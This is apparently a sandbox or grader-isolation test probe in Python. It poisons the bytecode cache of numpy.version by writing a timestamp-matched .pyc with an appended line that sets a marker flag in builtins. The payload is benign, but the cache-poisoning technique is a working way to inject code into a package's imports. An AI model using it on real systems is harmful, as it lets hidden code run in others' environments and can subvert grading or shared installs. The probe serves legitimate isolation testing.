# tries: puts other compiled code where Python believes that it compiled a package's module
# walls: private root
# canary: honest
# proof: stock nbgrader/root
# %%
import importlib.util
import importlib._bootstrap_external as external
import os

import numpy.version

source = numpy.version.__file__
text = open(source).read() + "\nimport builtins\nbuiltins.visited_by_attack = 1\n"
about = os.stat(source)
held = external._code_to_timestamp_pyc(compile(text, source, "exec"), int(about.st_mtime), about.st_size)
place = importlib.util.cache_from_source(source)
os.makedirs(os.path.dirname(place), exist_ok=True)
open(place, "wb").write(held)
